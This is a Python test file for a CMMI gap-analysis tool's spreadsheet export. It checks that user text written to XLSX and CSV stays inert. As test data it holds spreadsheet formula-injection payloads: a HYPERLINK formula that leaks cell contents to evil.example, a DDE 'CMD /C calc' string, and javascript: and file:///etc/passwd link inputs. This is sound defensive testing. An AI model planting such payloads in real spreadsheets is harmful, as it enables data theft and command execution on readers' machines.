"""Spreadsheet exports: safe text, the gap-analysis workbook, and a real spreadsheet program reading it."""

from __future__ import annotations

import runpy
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from cmmikit import palette
from cmmikit.outputs.excel import write_gap_workbook
from cmmikit.method.rating import rate
from cmmikit.outputs.xlsx_safe import MAX_CELL_TEXT, CellMaker, csv_text, safe_text, set_text

MALICIOUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+2", "-2-3", "=1+1",
             "\t=tab first", "plain text"]


def test_safe_text_strips_control_characters_but_keeps_line_breaks():
    assert safe_text("a\x00b\x07c\x1fd\te\nf\rg") == "abcd\te\nf\rg"
    assert safe_text(None) == "" and safe_text(3) == "3"


def test_safe_text_cuts_at_excels_cell_limit():
    text = safe_text("x" * (MAX_CELL_TEXT + 10))
    assert len(text) == MAX_CELL_TEXT and text.endswith("[...truncated]")


def test_csv_text_prefixes_formula_starts():
    assert [csv_text(t) for t in ("=1", "+1", "-1", "@x", "\tx", "ok")] == ["'=1", "'+1", "'-1", "'@x", "'\tx", "ok"]


@pytest.mark.parametrize("write_only", [False, True])
def test_user_text_comes_back_as_the_same_text(tmp_path, write_only):
    path = tmp_path / "t.xlsx"
    wb = Workbook(write_only=write_only)
    if write_only:
        ws = wb.create_sheet("T")
        make = CellMaker(ws)
        make.style("wrap", quotePrefix=False)
        for text in MALICIOUS:
            ws.append([make.text(text), make.text(text, "wrap")])
    else:
        ws = wb.active
        for row, text in enumerate(MALICIOUS, 1):
            set_text(ws.cell(row, 1), text)
            set_text(ws.cell(row, 2), text)
    wb.save(path)
    ws = load_workbook(path)[ws.title]
    for row, text in enumerate(MALICIOUS, 1):
        for col in (1, 2):
            cell = ws.cell(row, col)
            assert cell.value == text and cell.data_type == "s"
            assert bool(cell.quotePrefix) == text.startswith(("=", "+", "-", "@"))


# ------------------------------------------------------------------ the gap-analysis workbook

EVIL_NAME = "=HYPERLINK(\"http://evil.example\",\"x\")"


@pytest.fixture(scope="module")
def demo_book(demo_file, tmp_path_factory):
    """The sample appraisal's gap workbook, with malicious and long text planted in it."""
    from cmmikit.store import Appraisal

    copy = tmp_path_factory.mktemp("book") / "demo.cmmi"
    shutil.copy(demo_file, copy)
    with Appraisal.open(copy) as a:
        a.update_info(name=EVIL_NAME)
        a.update_record("MA", "SP 1.1", "Service Desk", characterization="PI", weaknesses="@SUM(A1:A9)",
                        strengths="x" * 300)
        evidence_id = a.add_evidence("MA", "SP 1.1", "Service Desk", "artifact", "=1+1", location="-2+3",
                                     who="+CMD|' /C calc'!A0")
        old_sla = a.add_artifact("Old SLA", "indirect", location="https://intranet.example/sla", owner="Desk lead",
                                 effective_date="2015-06-30")            # long before any appraisal period: stale
        for practice in ("SP 1.1", "SP 1.2"):
            a.link_artifact(old_sla, "MA", practice, "Service Desk", statement="=HYPERLINK(\"x\") p. 4")
        ratings = rate(a)
        path = write_gap_workbook(a, tmp_path_factory.mktemp("out") / "gap.xlsx", ratings=ratings)
        n_evidence = len(a.evidence())
        instances = [i.name for i in a.instances() if "MA" in i.pas]
    return {"path": path, "ratings": ratings, "wb": load_workbook(path), "n_evidence": n_evidence,
            "evidence_id": evidence_id, "ma_instances": instances}


def header_map(ws, row: int) -> dict[str, int]:
    return {c.value: c.column for c in ws[row] if c.value is not None}


def test_workbook_has_the_promised_sheets(demo_book):
    wb = demo_book["wb"]
    pas = list(demo_book["ratings"].pas["pa"])
    assert wb.sheetnames == ["Summary", "Goals", *pas, "Findings", "Action plan", "Evidence", "Change log"]


def test_the_change_log_sheet_names_who_changed_what(appraisal, tmp_path):
    from openpyxl import load_workbook

    from cmmikit.outputs.excel import export_workbook

    appraisal.update_record("SD", "SP 1.1", "Unit A", weaknesses="No SLA reviews")
    with appraisal.transaction():
        pass
    path = export_workbook(appraisal, tmp_path / "gap.xlsx")
    ws = load_workbook(path)["Change log"]
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=3)]
    assert ["When (UTC)", "Who", "What", "Field", "Old value", "New value"] == [c.value for c in ws[2]]
    assert [appraisal.user, "SD SP 1.1 / Unit A", "weaknesses", None, "No SLA reviews"] in [r[1:] for r in rows]
    assert len(rows) == len(appraisal.history())      # what the export's own findings sync did is not listed


def test_summary_shows_facts_verdict_and_pa_table(demo_book):
    ws, ratings = demo_book["wb"]["Summary"], demo_book["ratings"]
    facts = {ws.cell(r, 1).value: ws.cell(r, 3).value for r in range(2, 12)}
    assert ws["A1"].value == f"Gap analysis: {EVIL_NAME}" and ws["A1"].data_type == "s"
    assert facts["Verdict"] == ratings.maturity.headline
    table = ws.tables["PARatings"]
    first, last = ws[table.ref][0], ws[table.ref][-1]
    assert [c.value for c in first][:4] == ["PA", "Process area", "Category", "Rating"]
    rows = ws[table.ref][1:]
    assert [r[0].value for r in rows] == list(ratings.pas["pa"])
    assert [r[3].value for r in rows] == list(ratings.pas["rating"])
    readiness = rows[0][9]
    assert readiness.number_format == "0%" and readiness.value == pytest.approx(ratings.pas["readiness"].iloc[0])
    counts = ratings.cells[ratings.cells.pa == "CM"]["characterization"].value_counts()
    assert rows[0][11].value == counts.get("FI", 0)
    assert last[0].value == ratings.pas["pa"].iloc[-1]


def test_goals_sheet_gives_every_rating_and_reason(demo_book):
    ws, goals = demo_book["wb"]["Goals"], demo_book["ratings"].goals
    rows = list(ws.iter_rows(min_row=3, values_only=True))
    assert [(r[0], r[1], r[3], r[4]) for r in rows] == list(zip(goals.pa, goals.goal, goals.rating, goals.reason))
    assert ws.tables["GoalRatings"].ref == f"A2:H{ws.max_row}"


def test_summary_has_native_charts_over_the_pa_table(demo_book):
    ws = demo_book["wb"]["Summary"]
    charts = ws._charts
    assert len(charts) == 2
    titles = ["".join(r.t for p in c.title.tx.rich.p for r in (p.r or [])) for c in charts]
    assert titles == ["Characterizations per PA", "Goal satisfaction per PA"]
    assert [len(c.series) for c in charts] == [6, 3]
    assert all(s.val.numRef.f.lstrip("'").startswith("Summary") for c in charts for s in c.series)
    fills = [s.graphicalProperties.solidFill.srgbClr for s in charts[0].series]
    assert fills[:2] == [palette.CHARACTERIZATION["FI"].lstrip("#"), palette.CHARACTERIZATION["LI"].lstrip("#")]


def test_pa_sheet_is_a_practice_by_instance_matrix(demo_book):
    ws, ratings = demo_book["wb"]["MA"], demo_book["ratings"]
    cols = header_map(ws, 3)
    assert list(cols)[:3] == ["Goal", "Practice", "Title"]
    instances = demo_book["ma_instances"]
    assert [c for c in list(cols)[3:3 + len(instances)]] == instances
    assert ws.freeze_panes == "D4"
    practices = ratings.practices[ratings.practices.pa == "MA"]
    assert ws.max_row == 3 + len(practices)
    assert [ws.cell(r, cols["Practice"]).value for r in range(4, ws.max_row + 1)] == list(practices.practice)
    row = next(r for r in range(4, ws.max_row + 1) if ws.cell(r, cols["Practice"]).value == "SP 1.1")
    assert ws.cell(row, cols["Service Desk"]).value == "PI"
    ou = practices[practices.practice == "SP 1.1"].iloc[0]
    assert ws.cell(row, cols["OU"]).value.split(" (")[0] == (ou.ou if isinstance(ou.ou, str) else ou.aggregate)
    weak = ws.cell(row, cols["Weaknesses"])
    assert "Service Desk: @SUM(A1:A9)" in weak.value and weak.data_type == "s"
    strengths = ws.cell(row, cols["Strengths"])
    assert strengths.alignment.wrap_text
    assert int(ws.column_dimensions["C"].width) == 24  # the writer stores whole pixels: 24.71
    assert "PA_MA" in ws.tables and ws.tables["PA_MA"].ref == f"A3:{ws.cell(ws.max_row, ws.max_column).coordinate}"


def test_characterization_cells_are_coloured_by_conditional_formatting(demo_book):
    ws = demo_book["wb"]["MA"]
    n = len(demo_book["ma_instances"])
    rules = {}
    for rng in ws.conditional_formatting:
        for rule in rng.rules:
            rules.setdefault(str(rng.sqref), {})[rule.formula[0]] = (rule.dxf.fill.bgColor.rgb or rule.dxf.fill.fgColor.rgb)
    from openpyxl.utils import get_column_letter

    char_range = f"D4:{get_column_letter(3 + n)}{ws.max_row}"
    assert rules[char_range]['"FI"'].endswith(palette.CHARACTERIZATION["FI"].lstrip("#"))
    assert rules[char_range]['"NI"'].endswith(palette.CHARACTERIZATION["NI"].lstrip("#"))
    ou_range = f"{get_column_letter(4 + n)}4:{get_column_letter(4 + n)}{ws.max_row}"
    assert rules[ou_range]['"PI (team decision)"'].endswith(palette.CHARACTERIZATION["PI"].lstrip("#"))


def test_user_text_stays_text_everywhere(demo_book):
    ws = demo_book["wb"]["Evidence"]
    cols = header_map(ws, 2)
    row = next(r for r in ws.iter_rows(min_row=3) if r[cols["Evidence ID"] - 1].value == demo_book["evidence_id"])
    for header, text in (("Title", "=1+1"), ("Location", "-2+3"), ("Owner or roles", "+CMD|' /C calc'!A0")):
        cell = row[cols[header] - 1]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    for sheet in demo_book["wb"]:
        for r in sheet.iter_rows():
            assert all(c.data_type != "f" for c in r), sheet.title


def test_evidence_sheet_has_one_row_per_item_and_a_table(demo_book):
    ws = demo_book["wb"]["Evidence"]
    assert ws.max_row == 2 + demo_book["n_evidence"]
    assert ws.freeze_panes == "A3"
    assert ws.tables["EvidenceTable"].ref == f"A2:M{ws.max_row}"


def test_evidence_sheet_shows_the_register(demo_book):
    ws = demo_book["wb"]["Evidence"]
    cols = header_map(ws, 2)
    assert list(cols) == ["Evidence ID", "Register ID", "PA", "Practice", "Instance", "Kind", "Title", "Location",
                          "Owner or roles", "Date", "Statement", "Stale", "Reuse"]
    rows = [{h: r[c - 1] for h, c in cols.items()} for r in ws.iter_rows(min_row=3, values_only=True)]
    old = [r for r in rows if r["Title"] == "Old SLA"]
    assert [r["Practice"] for r in old] == ["SP 1.1", "SP 1.2"]
    assert {(r["Register ID"], r["Kind"], r["Owner or roles"], r["Date"].date().isoformat(), r["Statement"],
             r["Stale"], r["Reuse"]) for r in old} == {
        (old[0]["Register ID"], "indirect artifact", "Desk lead", "2015-06-30", '=HYPERLINK("x") p. 4', "Yes", 2)}
    assert old[0]["Register ID"].startswith("ART-")
    planted = next(r for r in rows if r["Evidence ID"] == demo_book["evidence_id"])
    assert (planted["Kind"], planted["Stale"], planted["Reuse"], planted["Date"]) == ("direct artifact", "No", 1, None)
    kinds = {r["Kind"] for r in rows}
    assert kinds == {"direct artifact", "indirect artifact", "affirmation"}
    assert all(r["Register ID"].startswith("AFF-") == (r["Kind"] == "affirmation") for r in rows)
    reuse = {}
    for r in rows:
        reuse[r["Register ID"]] = reuse.get(r["Register ID"], 0) + 1
    assert all(r["Reuse"] == reuse[r["Register ID"]] for r in rows) and max(reuse.values()) > 2
    heading = ws["A1"].value
    assert "Stale: dated before" in heading and "24 months before the period" in heading
    rules = {r.formula[0]: r.dxf.fill.bgColor.rgb or r.dxf.fill.fgColor.rgb
             for rng in ws.conditional_formatting if str(rng.sqref).startswith("L3") for r in rng.rules}
    assert rules['"Yes"'].endswith(palette.VERMILLION.lstrip("#"))       # stale items stand out, with their label


def test_list_sheets_are_tables_with_frozen_headers(demo_book):
    for title in ("Goals", "Findings", "Action plan", "Evidence"):
        ws = demo_book["wb"][title]
        assert ws.freeze_panes == "A3"
        (table,) = ws.tables.values()
        assert table.ref.startswith("A2:") and table.tableStyleInfo.name == "TableStyleMedium2"
        assert table.autoFilter.ref == table.ref  # filter buttons on every header
        assert [c.value for c in ws[2]] == [col.name for col in table.tableColumns]


def test_an_appraisal_without_data_still_exports(appraisal, tmp_path):
    path = write_gap_workbook(appraisal, tmp_path / "empty.xlsx")
    wb = load_workbook(path)
    assert wb["Evidence"].tables["EvidenceTable"].ref == "A2:M3"
    assert wb["CM"]["D3"].value == "Unit A"


def test_export_is_atomic(appraisal, tmp_path, monkeypatch):
    target = tmp_path / "gap.xlsx"
    target.write_bytes(b"old")

    from xlsxwriter import Workbook as WB

    close = WB.close

    def broken_close(self):
        close(self)
        raise OSError("disk full")

    monkeypatch.setattr(WB, "close", broken_close)
    with pytest.raises(OSError, match="disk full"):
        write_gap_workbook(appraisal, target)
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".gap")] == []


def soffice_csv(book, outdir):
    """Convert every sheet of ``book`` to CSV with LibreOffice headless; returns {sheet: text}."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed; CI installs libreoffice-calc-nogui")
    profile = outdir / "profile"
    subprocess.run([soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
                    "--outdir", str(outdir), str(book)], check=True, capture_output=True, timeout=180)
    return {p.stem.split("-", 1)[1]: p.read_text(encoding="utf-8") for p in outdir.glob(f"{book.stem}-*.csv")}


def test_libreoffice_reads_the_workbook(demo_book, tmp_path):
    sheets = soffice_csv(demo_book["path"], tmp_path)
    assert set(sheets) == set(demo_book["wb"].sheetnames)
    assert EVIL_NAME.replace('"', '""') in sheets["Summary"]  # text, not a computed hyperlink
    assert demo_book["ratings"].maturity.headline in sheets["Summary"]
    assert '"=1+1"' in sheets["Evidence"] or ",=1+1," in sheets["Evidence"]
    assert len(sheets["Evidence"].splitlines()) == 2 + demo_book["n_evidence"]


def test_cli_export_xlsx(demo_file, tmp_path, capsys):
    from cmmikit.cli import main

    out = tmp_path / "sub" / "gap.xlsx"
    assert main(["export-xlsx", str(demo_file), "-o", str(out)]) == 0
    assert str(out) in capsys.readouterr().out
    assert load_workbook(out, read_only=True).sheetnames[0] == "Summary"
    assert main(["export-xlsx", str(tmp_path / "missing.cmmi"), "-o", str(out)]) == 1
    assert "no such appraisal file" in capsys.readouterr().err


def test_benchmark_script_runs_on_a_small_appraisal(capsys):
    script = Path(__file__).parent.parent / "benchmarks" / "export_xlsx.py"
    module = runpy.run_path(str(script))
    assert module["main"](["--units", "2", "--repeat", "1"]) == 0
    out = capsys.readouterr().out
    assert "appraisal: 2 basic units" in out and "ratio:" in out


# ------------------------------------------------------------------ findings and the action plan


@pytest.fixture(scope="module")
def findings_book(demo_file, tmp_path_factory):
    """The sample appraisal after a findings sync, with a hand-written finding and an overdue action."""
    from datetime import date

    from cmmikit.method.findings import actions_frame, findings_frame, plan_action, sync_findings
    from cmmikit.store import Appraisal

    copy = tmp_path_factory.mktemp("findings") / "demo.cmmi"
    shutil.copy(demo_file, copy)
    with Appraisal.open(copy) as a:
        sync_findings(a)
        manual = a.add_finding("weakness", "MA", "SG 1", EVIL_NAME, practices=["SP 1.1"], impact=5)
        plan_action(a, manual, "@SUM(A1) review the measures", owner="-Ops", due_date="2020-01-31")
        ratings = rate(a)
        frame = findings_frame(a, ratings)
        actions = actions_frame(a, today=date.today())
        path = write_gap_workbook(a, tmp_path_factory.mktemp("out") / "gap.xlsx", ratings=ratings)
    return {"wb": load_workbook(path), "findings": frame, "actions": actions, "manual": manual}


def test_findings_sheet_lists_every_finding_in_rank_order(findings_book):
    ws, frame = findings_book["wb"]["Findings"], findings_book["findings"]
    cols = header_map(ws, 2)
    assert list(cols)[:4] == ["Rank", "Score", "Priority", "Blocks ML2"]
    rows = list(ws.iter_rows(min_row=3, values_only=True))
    assert len(rows) == len(frame) > 10
    assert [r[cols["Finding ID"] - 1] for r in rows] == list(frame["id"])
    ranks = [r[0] for r in rows if r[0] is not None]
    assert ranks == sorted(ranks) and ranks[0] == 1
    from cmmikit.method.findings import priority_band

    top = rows[0]
    assert top[cols["Priority"] - 1] == priority_band(top[cols["Score"] - 1])
    assert {r[cols["Blocks ML2"] - 1] for r in rows} == {"Yes", "No"}
    assert [r[cols["Blocks ML2"] - 1] == "Yes" for r in rows] == list(frame["blocks_ml2"])
    statement = next(r for r in ws.iter_rows(min_row=3) if r[cols["Finding ID"] - 1].value == findings_book["manual"])
    cell = statement[cols["Statement"] - 1]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (EVIL_NAME, "s", True)


def test_findings_sheet_has_filters_and_priority_formats(findings_book):
    ws = findings_book["wb"]["Findings"]
    assert ws.tables["FindingsTable"].ref == f"A2:R{ws.max_row}"
    kinds = {rule.type for rng in ws.conditional_formatting for rule in rng.rules}
    assert {"dataBar", "cellIs"} <= kinds
    formulas = {rule.formula[0] for rng in ws.conditional_formatting for rule in rng.rules if rule.type == "cellIs"}
    assert {'"High"', '"Medium"', '"Low"', '"Unsatisfied"'} <= formulas


def test_action_plan_sheet_flags_overdue_actions(findings_book):
    ws, actions = findings_book["wb"]["Action plan"], findings_book["actions"]
    cols = header_map(ws, 2)
    rows = list(ws.iter_rows(min_row=3))
    assert len(rows) == len(actions) >= 1
    assert sorted(r[cols["Action ID"] - 1].value for r in rows) == sorted(actions["id"])
    overdue = dict(zip(actions["id"], actions["overdue"]))
    assert all(r[cols["Overdue"] - 1].value == ("Yes" if overdue[r[0].value] else "No") for r in rows)
    row = next(r for r in rows if r[cols["Owner"] - 1].value == "-Ops")
    assert row[cols["Overdue"] - 1].value == "Yes"
    due = row[cols["Due date"] - 1]
    assert due.is_date and due.value.date().isoformat() == "2020-01-31" and due.number_format == "yyyy-mm-dd"
    assert {r[cols["Status"] - 1].value for r in rows} <= {"open", "in progress", "done", "cancelled"}
    assert row[cols["Days overdue"] - 1].value > 0
    action, owner = row[cols["Action"] - 1], row[cols["Owner"] - 1]
    assert (action.value, action.quotePrefix, owner.value, owner.quotePrefix) == (
        "@SUM(A1) review the measures", True, "-Ops", True)
    rules = [(str(rng.sqref), rule.formula[0]) for rng in ws.conditional_formatting for rule in rng.rules]
    assert (f"J3:J{ws.max_row}", '"Yes"') in rules


def test_summary_counts_open_weaknesses_per_pa(findings_book):
    ws, frame = findings_book["wb"]["Summary"], findings_book["findings"]
    rows = ws[ws.tables["PARatings"].ref][1:]
    open_gaps = frame[(frame.kind == "weakness") & (frame.status == "open")].groupby("pa").size()
    shown = {r[0].value: r[-1].value for r in rows}
    assert shown == {pa: int(open_gaps.get(pa, 0)) for pa in shown}


def test_findings_sheet_says_how_to_get_findings_when_there_are_none(appraisal, tmp_path):
    ws = load_workbook(write_gap_workbook(appraisal, tmp_path / "gap.xlsx"))["Findings"]
    assert "findings sync" in ws["A1"].value


def test_workbook_gets_ordinary_file_permissions(appraisal, tmp_path):
    import os

    mask = os.umask(0o022)
    try:
        path = write_gap_workbook(appraisal, tmp_path / "gap.xlsx")
    finally:
        os.umask(mask)
    assert path.stat().st_mode & 0o777 == 0o644


def test_awkward_instance_names_make_valid_unique_headers(appraisal, tmp_path):
    appraisal.update_instance("Unit B", new_name="Goal")
    appraisal.update_instance("QA Group", new_name="=QA [Group]'s #1")
    path = write_gap_workbook(appraisal, tmp_path / "odd.xlsx")
    ws = load_workbook(path)["CM"]
    headers = [c.value for c in ws[3]]
    assert headers[:6] == ["Goal", "Practice", "Title", "Unit A", "Goal (unit)", "=QA [Group]'s #1"]
    assert ws["F3"].data_type == "s" and ws["F3"].quotePrefix
    assert [c.name for c in ws.tables["PA_CM"].tableColumns] == headers
    sheets = soffice_csv(path, tmp_path / "lo")
    assert "=QA [Group]'s #1" in sheets["CM"].splitlines()[2]


# ------------------------------------------------------------------ what a user meets: the exported demo, printed


@pytest.fixture(scope="module")
def exported(demo_file, tmp_path_factory):
    """The demo after a goal decision and a removed weakness, exported by the CLI path, and its LibreOffice PDF."""
    import hashlib

    from cmmikit.outputs.excel import export_workbook
    from cmmikit.store import Appraisal

    folder = tmp_path_factory.mktemp("exported")
    copy = folder / "demo.cmmi"
    shutil.copy(demo_file, copy)
    with Appraisal.open(copy) as a:
        a.set_goal_decision("SD", "SG 1", "Weaknesses in agreements matter most here",
                            decided_by="Dana Whitfield")
        gone = next(f for f in a.findings() if f.origin == "generated" and f.kind == "weakness"
                    and f.status == "open" and not any(x.finding_id == f.id for x in a.actions()))
        for instance in gone.instances:  # the weakness is fixed, but nobody pressed sync
            a.update_record(gone.pa, gone.practices[0], instance, weaknesses="")
        if any((d.pa, d.practice) == (gone.pa, gone.practices[0]) for d in a.practice_decisions()):
            a.confirm_practice_decision(gone.pa, gone.practices[0])   # the team keeps its decision
        decisions = a.practice_decisions()
        evidence = a.evidence()
    before = hashlib.sha256(copy.read_bytes()).hexdigest()
    path = export_workbook(copy, folder / "gap.xlsx")
    after = hashlib.sha256(copy.read_bytes()).hexdigest()
    pdf = soffice_pdf(path, folder)
    return {"path": path, "wb": load_workbook(path), "pdf": pdf, "pages": pdf_pages(pdf), "gone": gone,
            "decisions": decisions, "evidence": evidence, "unchanged": before == after}


def soffice_pdf(book: Path, outdir: Path) -> Path:
    """Convert ``book`` to PDF with LibreOffice headless, as a user printing it would."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed; CI installs libreoffice-calc-nogui")
    subprocess.run([soffice, f"-env:UserInstallation={(outdir / 'profile').as_uri()}", "--headless", "--convert-to",
                    "pdf", "--outdir", str(outdir), str(book)], check=True, capture_output=True, timeout=300)
    return outdir / f"{book.stem}.pdf"


def pdf_pages(pdf: Path) -> list[tuple[str, str, tuple[float, float]]]:
    """(sheet name from the page footer, page text, page size in points) per printed page."""
    import re

    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    info = subprocess.run(["pdfinfo", "-f", "1", "-l", "9999", str(pdf)], capture_output=True, text=True,
                          check=True).stdout
    sizes = [(float(w), float(h)) for w, h in re.findall(r"Page\s+\d+ size:\s+([\d.]+) x ([\d.]+)", info)]
    pages = []
    for page, size in zip(text.split("\f")[:-1], sizes):
        footer = re.findall(r"(\S[^\n]*?), page \d+ of \d+", page)
        pages.append((footer[-1].strip() if footer else "", page, size))
    return pages


def test_printed_workbook_is_landscape_and_short(exported):
    pages = exported["pages"]
    assert all(w > h for _, _, (w, h) in pages)  # landscape
    per_sheet = {}
    for sheet, _, _ in pages:
        per_sheet[sheet] = per_sheet.get(sheet, 0) + 1
    assert list(per_sheet) == exported["wb"].sheetnames  # every sheet printed, in order, each page named
    assert per_sheet["Summary"] == 1 and per_sheet["Goals"] == 1
    assert all(per_sheet[pa] <= 4 for pa in ("CM", "MA", "PPQA", "REQM", "SAM", "SD", "WMC", "WP"))
    assert per_sheet["Evidence"] <= len(exported["evidence"]) / 20
    assert len(pages) <= 90  # was 198 before the print setup


def test_every_printed_page_is_one_sheet_wide(exported):
    """A sheet wider than the page would print its last columns on pages of their own: each page has both ends."""
    wb = exported["wb"]
    for sheet, text, _ in exported["pages"]:
        ws = wb[sheet]
        (table,) = ws.tables.values()
        header = ws[table.ref.split(":")[0]].row
        names = [c.value for c in ws[header] if c.value is not None]
        first, last = names[0].split()[0], names[-1].split()[0]
        assert first in text and last in text, (sheet, first, last)


def test_summary_page_holds_facts_table_and_both_whole_charts(exported):
    (summary,) = [text for sheet, text, _ in exported["pages"] if sheet == "Summary"]
    for words in ("Gap analysis:", "Verdict", "Open", "WP", "Characterizations per PA", "Goal satisfaction per PA",
                  "practice x instance cells", "Goals not rated", "Not characterized"):
        assert words in summary
    ws = exported["wb"]["Summary"]
    assert (ws.page_setup.fitToWidth or 1) == 1 and (ws.page_setup.fitToHeight or 1) == 1  # 1 is the default
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_area == f"'Summary'!$A$1:$R${ws.max_row}"
    goal_chart = ws._charts[1]
    assert goal_chart.y_axis.majorUnit == 1  # whole goals, no 0.5 steps


def test_list_sheets_print_one_page_wide_with_their_header_on_every_page(exported):
    for ws in exported["wb"]:
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert ws.page_setup.orientation == "landscape" and (ws.page_setup.fitToWidth or 1) == 1
        if ws.title != "Summary":
            header = ws[next(iter(ws.tables.values())).ref.split(":")[0]].row
            assert ws.print_title_rows == f"${header}:${header}", ws.title
            assert ws.page_setup.fitToHeight == 0


def test_wrapped_rows_are_as_tall_as_their_text(exported):
    from cmmikit.outputs.xlsx_sheet import DEFAULT_ROW_HEIGHT, row_height, wrapped_lines

    ws = exported["wb"]["MA"]
    cols = header_map(ws, 3)
    widths = {name: int(ws.column_dimensions[get_column_letter(col)].width) for name, col in cols.items()}
    tall = 0
    for r in range(4, ws.max_row + 1):
        lines = max(wrapped_lines(ws.cell(r, cols[name]).value or "", widths[name])
                    for name in ("Title", "Team decision", "Strengths", "Weaknesses", "Warnings"))
        height = ws.row_dimensions[r].height
        if lines > 1:
            tall += 1
            assert height == row_height(lines) and ws.cell(r, cols["Weaknesses"]).alignment.wrap_text
            assert ws.cell(r, cols["Practice"]).alignment.vertical == "top"
        else:
            assert height is None or height <= DEFAULT_ROW_HEIGHT
    assert tall >= 5
    header_height = ws.row_dimensions[3].height  # "Data Centre Operations" wraps in its 8-wide column
    assert header_height == row_height(max(wrapped_lines(c.value, widths[c.value], 1.0) for c in ws[3] if c.value))
    assert header_height > DEFAULT_ROW_HEIGHT


def get_column_letter(col: int) -> str:
    from openpyxl.utils import get_column_letter as letter

    return letter(col)


def test_cells_are_typed_dates_links_and_yes_no(exported):
    ws = exported["wb"]["Evidence"]
    cols = header_map(ws, 2)
    rows = list(ws.iter_rows(min_row=3))
    links = [r[cols["Location"] - 1] for r in rows if (r[cols["Location"] - 1].value or "").startswith("https://")]
    assert links and all(c.hyperlink is not None and c.hyperlink.target == c.value for c in links)
    dated = [r[cols["Date"] - 1] for r in rows]
    assert all(c.is_date and c.number_format == "yyyy-mm-dd" for c in dated)
    assert {c.value.date().isoformat() for c in dated} == {e.collected_on for e in exported["evidence"]}
    findings = exported["wb"]["Findings"]
    blocks = header_map(findings, 2)["Blocks ML2"]
    assert {r[blocks - 1] for r in findings.iter_rows(min_row=3, values_only=True)} == {"Yes", "No"}


def test_only_web_addresses_become_links(demo_book):
    ws = demo_book["wb"]["Evidence"]
    cols = header_map(ws, 2)
    row = next(r for r in ws.iter_rows(min_row=3) if r[0].value == demo_book["evidence_id"])
    assert row[cols["Location"] - 1].hyperlink is None and row[cols["Location"] - 1].value == "-2+3"
    from cmmikit.outputs.xlsx_sheet import web_link

    assert web_link("https://intranet.example/a b") is False
    assert [web_link(t) for t in ("http://x.example", "HTTPS://x.example/p?q=1", "javascript:alert(1)",
                                  "file:///etc/passwd", "\\\\server\\share", "https://")] == [
        True, True, False, False, False, False]


def test_lists_follow_model_order(exported, demo_file):
    from cmmikit.model import load_model

    model = load_model()
    order = {(p.pa, p.id): n for n, p in enumerate(model.practices())}
    pa_order = list(model.process_areas)
    ws = exported["wb"]["Evidence"]
    keys = [(r[2], r[3]) for r in ws.iter_rows(min_row=3, values_only=True)]
    ranks = [(pa_order.index(pa), order[(pa, p)]) for pa, p in keys]
    assert ranks == sorted(ranks)
    gps = [p for pa, p in dict.fromkeys(keys) if pa == "MA" and p.startswith("GP")]
    assert gps[-2:] == ["GP 2.9", "GP 2.10"]
    actions = exported["wb"]["Action plan"]
    pas = [r[2] for r in actions.iter_rows(min_row=3, values_only=True)]
    assert [pa_order.index(pa) for pa in pas] == sorted(pa_order.index(pa) for pa in pas)


def test_no_cell_shows_nan_or_none(appraisal, tmp_path):
    """A partly characterized appraisal: most cells have no value yet."""
    import re

    appraisal.update_record("CM", "SP 1.1", "Unit A", characterization="PI", weaknesses="No CM plan.")
    appraisal.update_record("CM", "SP 1.2", "Unit B", characterization="FI")
    appraisal.add_evidence("CM", "SP 1.1", "Unit A", "artifact", "Plan draft", location="", collected_on="")
    from cmmikit.method.findings import plan_action, sync_findings

    sync_findings(appraisal)
    plan_action(appraisal, appraisal.findings()[0].id, "Write the plan")  # no owner, no due date
    wb = load_workbook(write_gap_workbook(appraisal, tmp_path / "partial.xlsx"))
    bad = re.compile(r"\b(nan|NaN|None|NaT|<NA>)\b")
    for ws in wb:
        for row in ws.iter_rows(values_only=True):
            assert not any(isinstance(v, str) and bad.search(v) for v in row), (ws.title, row)
    ws = wb["CM"]
    cols = header_map(ws, 3)
    row = next(r for r in ws.iter_rows(min_row=4, values_only=True) if r[1] == "SP 1.1")
    assert row[cols["Unit B"] - 1] is None and row[cols["OU"] - 1] is None
    assert row[cols["OU status"] - 1] == "not characterized"


def test_practice_and_goal_decisions_are_shown_with_rationale_and_who(exported):
    wb = exported["wb"]
    assert len(exported["decisions"]) >= 10
    for d in exported["decisions"]:
        ws = wb[d.pa]
        cols = header_map(ws, 3)
        row = next(r for r in ws.iter_rows(min_row=4, values_only=True) if r[1] == d.practice)
        assert row[cols["OU"] - 1] == f"{d.value} (team decision)"
        assert row[cols["Team decision"] - 1] == f"{d.value}: {d.rationale} (decided by {d.decided_by})"
    goals = wb["Goals"]
    row = next(r for r in goals.iter_rows(min_row=3, values_only=True) if r[:2] == ("SD", "SG 1"))
    assert row[7] == "Unsatisfied: Weaknesses in agreements matter most here (decided by Dana Whitfield)"


def test_unit_names_are_not_repeated_inside_texts(exported):
    for pa in ("CM", "MA", "WMC"):
        ws = exported["wb"][pa]
        cols = header_map(ws, 3)
        weaknesses = [r[cols["Weaknesses"] - 1] for r in ws.iter_rows(min_row=4, values_only=True)]
        lines = [line for text in weaknesses if text for line in text.splitlines()]
        assert lines and not any(line.startswith(f"{u}: {u}") for line in lines
                                 for u in ("Service Desk", "Data Centre Operations", "Cloud Migration Services"))


def test_titles_show_no_internal_paths(exported):
    for ws in exported["wb"]:
        for row in ws.iter_rows(max_row=2, values_only=True):
            assert not any(isinstance(v, str) and (".yaml" in v or "/" in v.replace("N/A", "")) for v in row), ws.title


def test_export_refreshes_findings_on_a_copy_and_never_writes_the_appraisal(exported):
    assert exported["unchanged"]
    ws = exported["wb"]["Findings"]
    ids = [r[header_map(ws, 2)["Finding ID"] - 1] for r in ws.iter_rows(min_row=3, values_only=True)]
